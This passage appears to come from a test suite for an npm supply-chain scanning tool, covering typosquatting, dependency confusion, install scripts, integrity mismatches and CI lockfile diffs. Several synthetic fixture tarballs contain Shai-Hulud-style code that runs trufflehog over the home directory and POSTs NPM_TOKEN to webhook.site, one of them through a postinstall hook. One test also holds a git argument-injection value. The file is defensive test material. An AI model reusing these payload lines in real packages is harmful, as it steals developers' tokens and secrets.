    rules: { requireProvenance: { level: 'error', packages: ['sigstore'] } },
    exceptions: [
      { package: 'sigstore', reason: 'temporary', expires: '2020-01-01' },
      { package: 'sigstore', rules: ['provenanceRegression'], reason: 'also temporary', expires: '2021-06-30T00:00:00Z' },
      { package: 'left-pad@1.3.0', reason: 'removed long ago', expires: '2022-02-02' },
      { package: 'tuf-js', reason: 'still valid', expires: '2099-01-01' }
    ]
  })
  const r = await guard({ cwd: dir, cache: false })
  const expired = r.findings.filter((f) => f.rule === 'exceptionExpired')
  assert.deepEqual(expired.map((f) => f.message).sort(), [
    'the exception for left-pad@1.3.0 expired on 2022-02-02',
    'the exception for sigstore expired on 2020-01-01',
    'the exception for sigstore expired on 2021-06-30T00:00:00Z'
  ])
  const unused = expired.find((f) => f.name === 'left-pad')
  assert.equal(unused.version, '1.3.0')
  assert.ok(unused.evidence.some((e) => /matches no finding/.test(e)))
  assert.ok(expired.find((f) => /2020-01-01/.test(f.message)).evidence.some((e) => /no longer allows \d+ findings?: .*sigstore@5\.0\.1/.test(e)))
  // The expired ones allow nothing; the valid one still allows.
  assert.ok(r.findings.some((f) => f.rule === 'requireProvenance' && f.name === 'sigstore'))
  assert.ok(r.findings.some((f) => f.rule === 'provenanceRegression' && f.name === 'sigstore'))
  assert.ok(r.allowed.every((f) => f.name === 'tuf-js'))
  assert.ok(r.allowed.length > 0)
})

test('policy in package.json ("prov-native" key), level off, and per-rule options', async () => {
  const dir = project(reg, ['sigstore@1.0.0'], (p) => {
    p['node_modules/jqeury'] = { version: '1.0.0', resolved: `${reg.url}jqeury/-/jqeury-1.0.0.tgz`, integrity: p['node_modules/sigstore'].integrity }
  })
  const pj = JSON.parse(fs.readFileSync(path.join(dir, 'package.json'), 'utf8'))
  const policy = { rules: { typosquat: 'off', requireProvenance: { level: 'warn', packages: ['sigstore'] } } }
  assert.deepEqual(schemaErrors(SCHEMA, policy), [])
  fs.writeFileSync(path.join(dir, 'package.json'), JSON.stringify({ ...pj, 'prov-native': policy }))
  const r = await guard({ cwd: dir, cache: false })
  assert.match(r.config, /package\.json \("prov-native"\)/)
  assert.ok(!r.findings.some((f) => f.rule === 'typosquat'), rules(r).join('\n'))
  // A prov-native.config.json wins over the package.json key.
  withConfig(dir, { rules: { typosquat: 'warn' } })
  const r2 = await guard({ cwd: dir, cache: false })
  assert.match(r2.config, /prov-native\.config\.json$/)
  assert.ok(r2.findings.some((f) => f.rule === 'typosquat' && f.level === 'warn'), rules(r2).join('\n'))
  // An option a rule does not use is a configuration error, in the API and the CLI (exit 2).
  withConfig(dir, { rules: { typosquat: { private: ['internal-*'] } } }, { invalid: true })
  await rejectsWith(pn.guard({ cwd: dir, cache: false }), 'ERR_PROV_CONFIG')
  const cli = await run(process.execPath, [BIN, 'guard', '--no-cache'], { cwd: dir }).catch((e) => e)
  assert.equal(cli.code, 2)
  assert.match(cli.stderr, /rules\.typosquat: option "private" is not used by this rule/)
  withConfig(dir, { exceptions: [{ package: 'jqeury', reason: ' ', expires: '2099-01-01' }] }, { invalid: true })
  await rejectsWith(pn.guard({ cwd: dir, cache: false }), 'ERR_PROV_CONFIG')
  withConfig(dir, { exceptions: [{ package: 'jqeury', reason: 'r', expires: '31/12/2099' }] }, { invalid: true })
  await rejectsWith(pn.guard({ cwd: dir, cache: false }), 'ERR_PROV_CONFIG')
})

test('the README example policy validates against the shipped schema', () => {
  const readme = fs.readFileSync(path.join(__dirname, '..', 'README.md'), 'utf8')
  const policy = readme.slice(readme.indexOf('\n## Policy'))
  // The fence may carry more words (```json runnable <file>: __test__/readme.test.js runs it).
  const open = /```json[^\n]*\n/.exec(policy)
  const block = policy.slice(open.index + open[0].length)
  const example = JSON.parse(block.slice(0, block.indexOf('```')))
  assert.deepEqual(schemaErrors(SCHEMA, example), [])
  assert.ok(example.rules.sourceMatch && example.exceptions.length > 0)
})

test('installScripts: binding.gyp in the tarball implies node-gyp rebuild; the allow list', async () => {
  // SYNTHETIC: sigstore@1.0.0 re-packed with a binding.gyp and no install script: npm runs
  // `node-gyp rebuild`, which the registry manifest does not show.
  const gyp = makeTgz({ 'package.json': JSON.stringify({ name: 'sigstore', version: '1.0.0', main: 'index.js' }), 'binding.gyp': '{ "targets": [] }\n', 'index.js': 'module.exports = 1\n' })
  const bad = await startRegistry({ overrides: { sigstore: (doc) => { doc.versions['1.0.0'].dist.integrity = sri(gyp) } }, tarballOverrides: { 'sigstore@1.0.0': gyp } })
  try {
    const dir = project(bad, ['sigstore@1.0.0'])
    withConfig(dir, { rules: { installScripts: 'error' } })
    let r = await guard({ cwd: dir, cache: false })
    const f = r.findings.find((x) => x.rule === 'installScripts')
    assert.ok(f && f.level === 'error', rules(r).join('\n'))
    assert.equal(f.message, 'new install script: install: node-gyp rebuild')
    assert.ok(f.evidence.some((e) => /sigstore@0\.4\.0 \(published before\) had no install scripts/.test(e)), f.evidence.join('\n'))
    assert.ok(f.evidence.some((e) => /implied by its binding\.gyp/.test(e)), f.evidence.join('\n'))
    withConfig(dir, { rules: { installScripts: { level: 'error', allow: ['sig*'] } } })
    r = await guard({ cwd: dir, cache: false })
    assert.ok(!r.findings.some((x) => x.rule === 'installScripts'), rules(r).join('\n'))
    // Compared with the version in the previous lockfile: 0.4.0 there too, so still new.
    const prev = project(bad, ['sigstore@0.4.0'])
    withConfig(dir, { rules: { installScripts: 'error' } })
    r = await guard({ cwd: dir, cache: false, previousLockfile: path.join(prev, 'package-lock.json') })
    assert.ok(r.findings.some((x) => x.rule === 'installScripts'), rules(r).join('\n'))
  } finally { await bad.close() }
})

test('publisherChange: the maintainers changed (synthetic edit)', async () => {
  const bad = await startRegistry({
    overrides: {
      sigstore: (doc) => {
        doc.versions['0.4.0'].maintainers = [{ name: 'bdehamer' }, { name: 'feelepxyz' }]
        doc.versions['1.0.0'].maintainers = [{ name: 'bdehamer' }, { name: 'newcomer' }]
      }
    }
  })
  try {
    const dir = project(bad, ['sigstore@1.0.0'])
    const r = await guard({ cwd: dir, cache: false })
    const f = r.findings.find((x) => x.rule === 'publisherChange')
    assert.ok(f, rules(r).join('\n'))
    assert.equal(f.message, 'maintainers changed since 0.4.0: added newcomer; removed feelepxyz')
  } finally { await bad.close() }
})

test('majorUpdate: several installed versions are paired by lockfile path, not with the highest', async () => {
  const integ = (v) => reg.packument('sigstore').versions[v].dist
  const entry = (v) => ({ version: v, resolved: integ(v).tarball, integrity: integ(v).integrity })
  const npmrc = `registry=${reg.url}\n`
  const prev = lockProject({ 'node_modules/sigstore': entry('1.0.0'), 'node_modules/holder/node_modules/sigstore': entry('5.0.0') }, npmrc)
  const dir = lockProject({ 'node_modules/sigstore': entry('1.3.0'), 'node_modules/holder/node_modules/sigstore': entry('5.0.1') }, npmrc)
  withConfig(dir, { rules: { majorUpdate: 'error' } })
  let r = await guard({ cwd: dir, cache: false, previousLockfile: path.join(prev, 'package-lock.json') })
  assert.ok(!r.findings.some((f) => f.rule === 'majorUpdate'), rules(r).join('\n'))
  // A real major update at one path is still found.
  const dir2 = lockProject({ 'node_modules/sigstore': entry('5.0.1'), 'node_modules/holder/node_modules/sigstore': entry('5.0.0') }, npmrc)
  withConfig(dir2, { rules: { majorUpdate: 'error' } })
  r = await guard({ cwd: dir2, cache: false, previousLockfile: path.join(prev, 'package-lock.json') })
  const f = r.findings.filter((x) => x.rule === 'majorUpdate')
  assert.deepEqual(f.map((x) => `${x.version}: ${x.message}`), ['5.0.1: major update 1.0.0 -> 5.0.1 without verified provenance'])
  assert.ok(f[0].evidence.includes('previous lockfile: sigstore@1.0.0'))
})

test('tarball files over the read cap: an unread entry point is a warning, other files are listed', async () => {
  // SYNTHETIC: sigstore@1.0.0 re-packed with a 9 MiB main file (the cap is 8 MiB) and a 9 MiB
  // file nothing names. Random text: a run of one letter compresses past 1,000:1, which npm
  // (node-tar) refuses to inflate.
  const big = require('node:crypto').randomBytes(7 * 1024 * 1024).toString('base64').slice(0, 9 * 1024 * 1024)
  const tgz = makeTgz({ 'package.json': JSON.stringify({ name: 'sigstore', version: '1.0.0', main: 'dist/index.js' }), 'dist/index.js': big, 'dist/other.js': big })
  const bad = await startRegistry({ overrides: { sigstore: (doc) => { doc.versions['1.0.0'].dist.integrity = sri(tgz) } }, tarballOverrides: { 'sigstore@1.0.0': tgz } })
  try {
    const dir = project(bad, ['sigstore@1.0.0'])
    const r = await guard({ cwd: dir, cache: false })
    const f = r.findings.find((x) => x.rule === 'suspiciousCode' && /code\.unread in dist\/index\.js/.test(x.message))
    assert.ok(f && f.level === 'warn', rules(r).join('\n'))
    assert.match(f.evidence[0], /entry point dist\/index\.js \(9437184 bytes\) was not read, over the per-file read cap/)
    assert.ok(r.skipped.some((s) => /^suspiciousCode: files over the per-file read cap.*sigstore@1\.0\.0 \(dist\/other\.js \(too-large-to-read\)\)/.test(s)), r.skipped.join('\n'))
  } finally { await bad.close() }
})

test('a tarball that does not match the lockfile integrity is an error, not scanned (synthetic swap)', async () => {
  // SYNTHETIC: the registry serves other bytes for sigstore@1.0.0 than the lockfile (and the
  // packument) pin. Nothing read from them is trusted: one error finding, no code verdict.
  const other = makeTgz({ 'package.json': JSON.stringify({ name: 'sigstore', version: '1.0.0', main: 'index.js' }), 'index.js': 'module.exports = 1' })
  const bad = await startRegistry({ tarballOverrides: { 'sigstore@1.0.0': other } })
  try {
    const dir = project(bad, ['sigstore@1.0.0'])
    const r = await guard({ cwd: dir, cache: false })
    const f = r.findings.find((x) => /does not match its integrity/.test(x.message))
    assert.ok(f, rules(r).join('\n'))
    assert.equal(f.level, 'error')
    assert.equal(f.rule, 'suspiciousCode')
    assert.ok(f.evidence.some((e) => /^the lockfile's integrity: sha512-/.test(e)), f.evidence.join('\n'))
    assert.ok(f.evidence.some((e) => /EINTEGRITY/.test(e)))
    assert.ok(!r.findings.some((x) => x.rule === 'manifestConfusion'), rules(r).join('\n'))
    // The audit verifies the pinned integrity (attested and signed), which npm enforces at
    // install: that stays verified; the guard, which read the served bytes, is what fails.
    assert.equal(r.audit.verified, 1)
    assert.ok(r.errors > 0)
  } finally { await bad.close() }
})

test('a tarball the reader refuses: an error, whether or not the packument declares install scripts (synthetic)', async () => {
  // SYNTHETIC: the registry's sigstore@1.0.0 is bytes that are not a gzip tarball, with a
  // matching integrity, once without and once with a declared postinstall. The reader could not
  // see what npm extracts, so what the packument says is no evidence either way.
  const junk = Buffer.from('not a tarball '.repeat(100))
  for (const withHook of [false, true]) {
    const bad = await startRegistry({
      overrides: { sigstore: (doc) => { const m = doc.versions['1.0.0']; m.dist.integrity = sri(junk); if (withHook) m.scripts = { postinstall: 'node x.js' }; else delete m.scripts } },
      tarballOverrides: { 'sigstore@1.0.0': junk }
    })
    try {
      const dir = project(bad, ['sigstore@1.0.0'])
      const r = await guard({ cwd: dir, cache: false })
      const f = r.findings.find((x) => /the tarball cannot be read as npm reads it/.test(x.message))
      assert.ok(f, rules(r).join('\n'))
      assert.equal(f.level, 'error', `withHook=${withHook}`)
      assert.ok(f.evidence.some((e) => /reader limits/.test(e)), f.evidence.join('\n'))
    } finally { await bad.close() }
  }
})

test('yarn berry: tarballs are read from the registry (its resolution is not a URL), and scanned (synthetic)', async () => {
  // SYNTHETIC: a berry lockfile locking the Shai-Hulud-style sigstore@1.0.0 the registry serves.
  const evil = makeTgz({
    'package.json': JSON.stringify({ name: 'sigstore', version: '1.0.0', main: 'index.js' }),
    'index.js': "require('child_process').execSync('trufflehog filesystem ~'); fetch('https://webhook.site/x', { method: 'POST', body: process.env.NPM_TOKEN })"
  })
  const bad = await startRegistry({ overrides: { sigstore: (doc) => { doc.versions['1.0.0'].dist.integrity = sri(evil) } }, tarballOverrides: { 'sigstore@1.0.0': evil } })
  try {
    const dir = tmpdir()
    fs.writeFileSync(path.join(dir, 'package.json'), JSON.stringify({ name: 'berry-app', version: '1.0.0', dependencies: { sigstore: '1.0.0' } }))
    fs.writeFileSync(path.join(dir, '.npmrc'), `registry=${bad.url}\n`)
    fs.writeFileSync(path.join(dir, 'yarn.lock'), [
      '__metadata:', '  version: 8', '  cacheKey: 10c0', '',
      '"berry-app@workspace:.":', '  version: 0.0.0-use.local', '  resolution: "berry-app@workspace:."',
      '  dependencies:', '    sigstore: "npm:1.0.0"', '  languageName: unknown', '  linkType: soft', '',
      '"sigstore@npm:1.0.0":', '  version: 1.0.0', '  resolution: "sigstore@npm:1.0.0"',
      '  checksum: 10c0/' + '0'.repeat(128), '  languageName: node', '  linkType: hard', ''
    ].join('\n'))
    const r = await guard({ cwd: dir, cache: false })
    assert.ok(r.findings.some((f) => f.rule === 'suspiciousCode' && f.name === 'sigstore' && f.level === 'error'), rules(r).join('\n') + '\n' + r.skipped.join('\n'))
  } finally { await bad.close() }
})

test('guard <dir>: the policy file and .npmrc come from <dir>, not the current directory', async () => {
  const dir = project(reg, ['sigstore@1.0.0', 'tuf-js@1.0.0'])
  withConfig(dir, { rules: { requireProvenance: { level: 'error', packages: ['from-git'] } } })
  const elsewhere = tmpdir()
  // The current directory has its own (different) policy and no registry of ours.
  fs.writeFileSync(path.join(elsewhere, 'prov-native.config.json'), JSON.stringify({ rules: { requireProvenance: 'off' } }))
  for (const target of [dir, path.join(dir, 'package-lock.json')]) {
    const out = await run(process.execPath, [BIN, 'guard', target, '--no-cache', '--json'], { cwd: elsewhere }).catch((e) => e)
    const r = JSON.parse(out.stdout)
    assert.equal(r.config, path.join(dir, 'prov-native.config.json'))
    assert.equal(r.audit.verified, 2, 'resolved through <dir>/.npmrc (the fixture registry)')
    assert.ok(r.findings.some((f) => f.rule === 'requireProvenance' && f.name === 'from-git'))
    assert.equal(out.code, 1)
  }
})

test('CI: the previous lockfile from git (HEAD, origin/$GITHUB_BASE_REF), unchanged packages noted, --scan-all', async () => {
  // SYNTHETIC: the Shai-Hulud-style sigstore@1.0.0 tarball, already committed.
  const evil = makeTgz({
    'package.json': JSON.stringify({ name: 'sigstore', version: '1.0.0', main: 'index.js' }),
    'index.js': "require('child_process').execSync('trufflehog filesystem ~'); fetch('https://webhook.site/x', { method: 'POST', body: process.env.NPM_TOKEN })"
  })
  const bad = await startRegistry({ overrides: { sigstore: (doc) => { doc.versions['1.0.0'].dist.integrity = sri(evil) } }, tarballOverrides: { 'sigstore@1.0.0': evil } })
  try {
    const dir = project(bad, ['sigstore@1.0.0', 'tuf-js@1.0.0'])
    await git(dir, 'init', '-q')
    await git(dir, 'add', 'package-lock.json')
    await git(dir, 'commit', '-q', '-m', 'lockfile')
    const r = await guard({ cwd: dir, cache: false })
    assert.equal(r.previousLockfile, 'HEAD:package-lock.json (git)')
    assert.ok(!r.findings.some((f) => f.rule === 'suspiciousCode'), rules(r).join('\n'))
    assert.ok(r.skipped.some((s) => /2 packages unchanged since HEAD:package-lock\.json \(git\): tarballs not scanned/.test(s)), r.skipped.join('\n'))
    // In CI, a lockfile identical to HEAD's is the one under review (a push build): there is
    // no previous lockfile, so everything is read.
    const ci = JSON.parse((await run(process.execPath, [BIN, 'guard', '--no-cache', '--json'], { cwd: dir, env: { ...process.env, CI: 'true' } }).catch((e) => e)).stdout)
    assert.equal(ci.previousLockfile, null)
    assert.ok(ci.skipped.some((s) => /CI is set and the lockfile is the one committed at git HEAD/.test(s)), ci.skipped.join('\n'))
    assert.ok(ci.findings.some((f) => f.rule === 'suspiciousCode' && f.name === 'sigstore'), rules(ci).join('\n'))
    // --scan-all reads them.
    const out = await run(process.execPath, [BIN, 'guard', '--no-cache', '--json', '--scan-all'], { cwd: dir }).catch((e) => e)
    const all = JSON.parse(out.stdout)
    assert.ok(all.findings.some((f) => f.rule === 'suspiciousCode' && f.level === 'error'), rules(all).join('\n'))
    assert.ok(!all.skipped.some((s) => /unchanged since/.test(s)), all.skipped.join('\n'))
    assert.equal(out.code, 1)
    // A pull request: the base branch's lockfile (origin/main) had only tuf-js, so sigstore is new.
    const base = project(bad, ['tuf-js@1.0.0'])
    fs.copyFileSync(path.join(base, 'package-lock.json'), path.join(dir, 'package-lock.json'))
    await git(dir, 'commit', '-q', '-am', 'base')
    await git(dir, 'update-ref', 'refs/remotes/origin/main', 'HEAD')
    await git(dir, 'checkout', '-q', 'HEAD~1', '--', 'package-lock.json')
    await git(dir, 'commit', '-q', '-am', 'pull request')
    const env = { ...process.env, GITHUB_BASE_REF: 'main' }
    const pr = JSON.parse((await run(process.execPath, [BIN, 'guard', '--no-cache', '--json'], { cwd: dir, env }).catch((e) => e)).stdout)
    assert.equal(pr.previousLockfile, 'origin/main:package-lock.json (git)')
    assert.ok(pr.findings.some((f) => f.rule === 'suspiciousCode' && f.name === 'sigstore'), rules(pr).join('\n'))
    assert.ok(pr.skipped.some((s) => /1 packages unchanged since origin\/main/.test(s)), pr.skipped.join('\n'))
    // A GitLab merge request names its base by commit.
    const sha = (await run('git', ['rev-parse', 'origin/main'], { cwd: dir })).stdout.trim()
    const gl = JSON.parse((await run(process.execPath, [BIN, 'guard', '--no-cache', '--json'], { cwd: dir, env: { ...process.env, CI: 'true', CI_MERGE_REQUEST_DIFF_BASE_SHA: sha } }).catch((e) => e)).stdout)
    assert.equal(gl.previousLockfile, `${sha}:package-lock.json (git)`)
    // An explicit <rev>:<file>.
    const rev = JSON.parse((await run(process.execPath, [BIN, 'guard', '--no-cache', '--json', '--previous-lockfile', 'HEAD~1:package-lock.json'], { cwd: dir }).catch((e) => e)).stdout)
    assert.equal(rev.previousLockfile, 'HEAD~1:package-lock.json (git)')
    assert.ok(rev.skipped.some((s) => /1 packages unchanged since HEAD~1:package-lock\.json/.test(s)), rev.skipped.join('\n'))
    // A revision that is an option is refused, not passed to git.
    const opt = await run(process.execPath, [BIN, 'guard', '--no-cache', '--json', '--previous-lockfile=--output=x:package-lock.json'], { cwd: dir }).catch((e) => e)
    assert.equal(opt.code, 2, opt.stdout + opt.stderr)
    assert.match(opt.stderr, /is not a git revision/)
    assert.ok(!fs.existsSync(path.join(dir, 'x')))
    assert.ok(gl.findings.some((f) => f.rule === 'suspiciousCode' && f.name === 'sigstore'), rules(gl).join('\n'))
    // A base branch that was not fetched: said, and HEAD (the pull request's own merge commit)
    // is not used: there is no previous lockfile, so every package is new and scanned.
    const gone = JSON.parse((await run(process.execPath, [BIN, 'guard', '--no-cache', '--json'], { cwd: dir, env: { ...env, GITHUB_BASE_REF: 'not-fetched' } }).catch((e) => e)).stdout)
    assert.equal(gone.previousLockfile, null)
    assert.ok(gone.skipped.some((s) => /GITHUB_BASE_REF is set but git origin\/not-fetched:package-lock\.json is not available/.test(s)), gone.skipped.join('\n'))
    assert.ok(gone.findings.some((f) => f.rule === 'suspiciousCode' && f.name === 'sigstore'), rules(gone).join('\n'))
    assert.ok(!gone.skipped.some((s) => /unchanged since/.test(s)), gone.skipped.join('\n'))
  } finally { await bad.close() }
})

test('typosquat: the allow list, and the package age from its packument (old: warning; young: error; unknown: graded by popularity)', async () => {
  const day = 86400000
  // SYNTHETIC packuments: an old look-alike of lodash and a young look-alike of jquery.
  const mini = await miniRegistry({
    lodahs: packumentOf('lodahs', '1.0.0', new Date(Date.now() - 3000 * day).toISOString()),
    jqeury: packumentOf('jqeury', '1.0.0', new Date(Date.now() - 2 * day).toISOString())
  })
  try {
    const entry = (n) => ({ version: '1.0.0', resolved: `${mini.url}${n}/-/${n}-1.0.0.tgz`, integrity: 'sha512-AAAA' })
    const dir = lockProject({ 'node_modules/lodahs': entry('lodahs'), 'node_modules/jqeury': entry('jqeury'), 'node_modules/reactdom': entry('reactdom'), 'node_modules/unbash': entry('unbash') }, `registry=${mini.url}\n`)
    let r = await guard({ cwd: dir, cache: false })
    const by = (n) => r.findings.find((f) => f.rule === 'typosquat' && f.name === n)
    assert.equal(by('lodahs').level, 'warn', rules(r).join('\n'))
    assert.ok(by('lodahs').evidence.some((e) => /first published .* \(3000 days ago\): an old package/.test(e)), by('lodahs').evidence.join('\n'))
    assert.equal(by('jqeury').level, 'error')
    assert.ok(by('jqeury').evidence.some((e) => /first published .* \(2 days ago\)/.test(e)))
    // No packument (404): age unknown, so the popularity decides. react-dom is far more popular
    // than anything off the list: the rule's level.
    assert.equal(by('reactdom').level, 'error')
    assert.ok(by('reactdom').evidence.some((e) => /first publish time unknown \(packument unavailable: 404.*graded by popularity/.test(e)), by('reactdom').evidence.join('\n'))
    assert.ok(by('reactdom').evidence.some((e) => /react-dom \(#\d+ by downloads, \d+ a month\); reactdom is not among the 100000 most downloaded/.test(e)), by('reactdom').evidence.join('\n'))
    // A real package one edit from a less popular one (unbash, unwasm): a warning.
    assert.equal(by('unbash').level, 'warn', rules(r).join('\n'))
    assert.ok(by('unbash').evidence.some((e) => /first publish time unknown .*too small a gap to unwasm/.test(e)), by('unbash').evidence.join('\n'))
    withConfig(dir, { rules: { typosquat: { level: 'error', allow: ['jqeury', 'react*', 'unbash'] } } })
    r = await guard({ cwd: dir, cache: false })
    assert.deepEqual(r.findings.filter((f) => f.rule === 'typosquat').map((f) => f.name), ['lodahs'])
  } finally { await mini.close() }
})

test('dependencyConfusion on real dependency-confusion packages: scope registry, private list, 99.x, public existence, lookup errors', async () => {
  // Real names and versions from leitwacht/malicious-packages (dependency_confusion records);
  // the public registry serving them here is a SYNTHETIC stand-in.
  const index = fs.readFileSync(path.join(DATA, 'dependency-confusion/leitwacht-osv/index.tsv'), 'utf8').trim().split('\n').slice(1).map((l) => l.split('\t'))
  const high = (v) => Number(v.split('.')[0]) >= 99
  const scoped = index.find(([, n, v]) => n.startsWith('@') && high(v))
  const unscoped = index.find(([, n, v]) => !n.startsWith('@') && high(v))
  const low = index.find(([, n, v]) => n.startsWith('@') && !high(v) && n.split('/')[0] !== scoped[1].split('/')[0])
  assert.ok(scoped && unscoped && low, 'records in the data set')
  const [sName, sVer] = [scoped[1], scoped[2].split(',')[0]]
  const [uName, uVer] = [unscoped[1], unscoped[2].split(',')[0]]
  const [lName, lVer] = [low[1], low[2].split(',')[0]]
  const created = new Date(Date.now() - 10 * 86400000).toISOString()
  const mini = await miniRegistry({
    [sName]: packumentOf(sName, sVer, created),
    [uName]: packumentOf(uName, uVer, created),
    [lName]: packumentOf(lName, lVer, created)
  }, { fail: ['internal-flaky'] })
  try {
    const entry = (n, v) => ({ version: v, resolved: `${mini.url}${n}/-/${n.split('/').pop()}-${v}.tgz`, integrity: 'sha512-AAAA' })
    const scope = sName.split('/')[0]
    const dir = lockProject({
      [`node_modules/${sName}`]: entry(sName, sVer),
      [`node_modules/${uName}`]: entry(uName, uVer),
      [`node_modules/${lName}`]: entry(lName, lVer),
      'node_modules/internal-flaky': entry('internal-flaky', '1.0.0'),
      'node_modules/internal-absent': entry('internal-absent', '2.0.0')
    }, `registry=${mini.url}\n${scope}:registry=http://127.0.0.1:9/private/\n`)
    withConfig(dir, { rules: { dependencyConfusion: { level: 'error', private: [uName, `${lName.split('/')[0]}/*`, 'internal-*'] } } })
    const r = await guard({ cwd: dir, cache: false })
    const dc = (n) => r.findings.filter((f) => f.rule === 'dependencyConfusion' && f.name === n).map((f) => f.message)
    assert.ok(dc(sName).some((m) => m.includes('its scope is configured to come from http://127.0.0.1:9/private/')), dc(sName).join('\n'))
    assert.ok(dc(sName).some((m) => m.includes(`at version ${sVer}`)))
    assert.ok(dc(sName).some((m) => m.includes(`also exists on ${mini.url}`)))
    assert.ok(dc(uName).some((m) => m.includes(`at version ${uVer}`)), dc(uName).join('\n'))
    assert.ok(dc(uName).some((m) => m.includes('also exists on')))
    assert.deepEqual(dc(lName), [`private name ${lName} also exists on ${mini.url}`])
    assert.deepEqual(dc('internal-absent'), [], 'a private name absent from the public registry is fine')
    assert.ok(r.findings.filter((f) => f.rule === 'dependencyConfusion').every((f) => f.level === 'error' && f.evidence.some((e) => /^private because/.test(e))))
    // A failed lookup is not "absent": it is said.
    assert.deepEqual(dc('internal-flaky'), [])
    assert.ok(r.skipped.some((s) => /^dependencyConfusion: could not look the name up on .*public existence not checked: 1 package \(internal-flaky@1\.0\.0\)/.test(s)), r.skipped.join('\n'))
  } finally { await mini.close() }
})

test('dependencyConfusion: yarn classic workspaces (real excalidraw package.json files), pnpm 9 without resolved URLs', async () => {
  const src = path.join(DATA, 'lockfiles/yarn-v1/excalidraw')
  const dir = tmpdir()
  for (const rel of ['package.json', 'excalidraw-app/package.json', 'packages/element/package.json', 'examples/with-nextjs/package.json']) {
    fs.mkdirSync(path.dirname(path.join(dir, rel)), { recursive: true })
    fs.copyFileSync(path.join(src, rel), path.join(dir, rel))
  }
  const created = new Date(Date.now() - 10 * 86400000).toISOString()
  // SYNTHETIC public packages named like two of the workspaces.
  const mini = await miniRegistry({
    'with-nextjs': packumentOf('with-nextjs', '99.1.0', created),
    '@excalidraw/element': packumentOf('@excalidraw/element', '0.17.0', created)
  })
  try {
    // SYNTHETIC yarn.lock entries resolving the workspace names from the registry.
    fs.writeFileSync(path.join(dir, 'yarn.lock'), [
      '# THIS IS AN AUTOGENERATED FILE. DO NOT EDIT THIS FILE DIRECTLY.', '# yarn lockfile v1', '',
      `with-nextjs@^99.0.0:\n  version "99.1.0"\n  resolved "${mini.url}with-nextjs/-/with-nextjs-99.1.0.tgz#0000000000000000000000000000000000000000"\n  integrity sha512-AAAA\n`,
      `"@excalidraw/element@0.17.0":\n  version "0.17.0"\n  resolved "${mini.url}@excalidraw/element/-/element-0.17.0.tgz#0000000000000000000000000000000000000000"\n  integrity sha512-AAAA\n`
    ].join('\n'))
    fs.writeFileSync(path.join(dir, '.npmrc'), `registry=${mini.url}\n`)
    const r = await guard({ cwd: dir, cache: false })
    const dc = r.findings.filter((f) => f.rule === 'dependencyConfusion')
    const next = dc.filter((f) => f.name === 'with-nextjs')
    assert.ok(next.some((f) => /at version 99\.1\.0/.test(f.message) && f.level === 'error'), rules(r).join('\n'))
    assert.ok(next.some((f) => /also exists on/.test(f.message) && f.level === 'error'))
    assert.ok(next[0].evidence.some((e) => /a workspace package of this project \(examples\/with-nextjs\)/.test(e)), next[0].evidence.join('\n'))
    // A publishable workspace (no "private": true) on the public registry may be the project's own: a warning.
    const el = dc.find((f) => f.name === '@excalidraw/element')
    assert.ok(el && el.level === 'warn', rules(r).join('\n'))
    assert.ok(el.evidence.some((e) => /no "private": true/.test(e)))
  } finally { await mini.close() }
  // pnpm 9 (real vue-core lockfile) records no resolved URLs: the host check is said to be impossible.
  const pnpm = tmpdir()
  for (const f of ['pnpm-lock.yaml', 'package.json', 'pnpm-workspace.yaml']) fs.copyFileSync(path.join(DATA, 'lockfiles/pnpm-v9/vue-core', f), path.join(pnpm, f))
  fs.writeFileSync(path.join(pnpm, '.npmrc'), 'registry=http://127.0.0.1:9/\n')
  withConfig(pnpm, { rules: { dependencyConfusion: { level: 'error', private: ['@vue/*'] } } })
  const r = await guard({ cwd: pnpm, cache: false, offline: true })
  assert.ok(r.skipped.some((s) => /^dependencyConfusion: the pnpm lockfile records no resolved URL: the registry a private package came from could not be checked: \d+ packages \(@vue\//.test(s)), r.skipped.join('\n'))
  assert.ok(r.skipped.some((s) => /^dependencyConfusion: could not look the name up .*offline/.test(s)), r.skipped.join('\n'))
})

test('a remote tarball dependency is read and scanned: suspicious code and install scripts (synthetic tarball)', async () => {
  // SYNTHETIC: a dependency pinned to a tarball URL (not a registry's tarball of its name), with
  // a postinstall that exfiltrates a token.
  const evil = makeTgz({
    'package.json': JSON.stringify({ name: 'remote-thing', version: '1.0.0', scripts: { postinstall: 'node bundle.js' } }),
    'bundle.js': "require('child_process').execSync('trufflehog filesystem ~'); fetch('https://webhook.site/x', { method: 'POST', body: process.env.NPM_TOKEN })"
  })
  const bad = await startRegistry({ tarballOverrides: { 'sigstore@1.0.0': evil } })
  try {
    const url = bad.packument('sigstore').versions['1.0.0'].dist.tarball
    const dir = project(bad, ['tuf-js@1.0.0'], (p) => {
      p['node_modules/remote-thing'] = { version: '1.0.0', resolved: url, integrity: sri(evil) }
    })
    const r = await guard({ cwd: dir, cache: false })
    assert.ok(r.findings.some((f) => f.name === 'remote-thing' && f.rule === 'suspiciousCode' && f.level === 'error'), rules(r).join('\n'))
    const is = r.findings.find((f) => f.name === 'remote-thing' && f.rule === 'installScripts')
    assert.ok(is && /install script in a remote tarball dependency: postinstall: node bundle\.js/.test(is.message), rules(r).join('\n'))
    assert.ok(r.audit.skipped.some((s) => s.name === 'remote-thing' && /remote tarball/.test(s.reason)), JSON.stringify(r.audit.skipped))
  } finally { await bad.close() }
})
